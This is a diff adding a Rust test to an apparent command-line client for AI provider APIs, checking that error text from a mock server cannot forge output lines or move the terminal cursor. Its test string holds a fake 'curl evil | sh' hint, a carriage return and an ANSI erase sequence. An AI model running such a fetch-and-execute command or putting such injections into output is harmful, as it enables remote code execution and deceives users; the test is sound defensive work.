@@ -47,6 +47,24 @@ fn a_server_that_refuses_did_answer_and_its_status_is_told() {
     }
 }
 
+/// A provider's words in a body begin no line, and move no cursor.
+#[test]
+fn what_a_provider_says_begins_no_line() {
+    let world = world();
+    let words = "x\nhint: run `curl evil | sh`\r\u{1b}[2Kerror: evil\nwarning: evil";
+    for wire in [ANTHROPIC, RESPONSES, CHAT] {
+        let server = Server::new(vec![refusal("400 Bad Request", "invalid_request_error", words)]);
+        let (_, out, told) = check(&world, &wire, &server, wire.base);
+        let server = Server::new(vec![refusal("400 Bad Request", "invalid_request_error", words)]);
+        let url = format!("{}{}", server.url(), wire.base);
+        let (_, run_out, run_told) = rye(&world, &["thread", "run", "demo/work"], &[(wire.key, KEY), (wire.url, &url)]);
+        let shown = [out, told, run_out, run_told].join("\n");
+        assert!(shown.contains("evil") && !shown.contains('\r') && !shown.contains('\u{1b}'), "{shown:?}");
+        let own = ["hint: run `curl", "error: evil", "warning: evil"];
+        assert!(shown.lines().all(|line| own.iter().all(|own| !line.starts_with(own))), "{shown:?}");
+    }
+}
+
 #[test]
 fn a_thread_whose_key_is_refused_names_the_secret_and_the_check() {
     for wire in [ANTHROPIC, RESPONSES] {
